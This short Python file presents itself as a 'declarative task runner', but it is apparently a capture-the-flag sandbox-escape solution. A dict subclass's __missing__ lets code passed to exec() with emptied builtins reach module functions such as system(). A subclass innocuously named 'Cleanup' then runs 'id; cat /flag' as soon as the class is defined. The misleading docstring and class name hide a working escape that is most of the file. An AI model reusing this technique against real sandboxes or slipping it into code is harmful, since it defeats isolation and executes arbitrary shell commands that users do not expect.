"""Declarative task runner: subclasses register themselves with keyword options."""
import sys


class Namespace(dict):
    """Name lookups that miss fall back to attributes of loaded modules."""

    def __missing__(self, key):
        for mod in list(sys.modules.values()):
            if mod is not None and key in getattr(mod, "__dict__", {}):
                return mod.__dict__[key]
        raise KeyError(key)


class Task:
    def __init_subclass__(cls, run=None, **kw):
        super().__init_subclass__(**kw)
        if run:
            # LOAD_NAME goes through the locals mapping, so __missing__ resolves the bare name
            exec(run, {"__builtins__": {}}, Namespace())


class Cleanup(Task, run="system('id; cat /flag')"):
    pass


class Report(Task):
    pass


print([c.__name__ for c in Task.__subclasses__()])
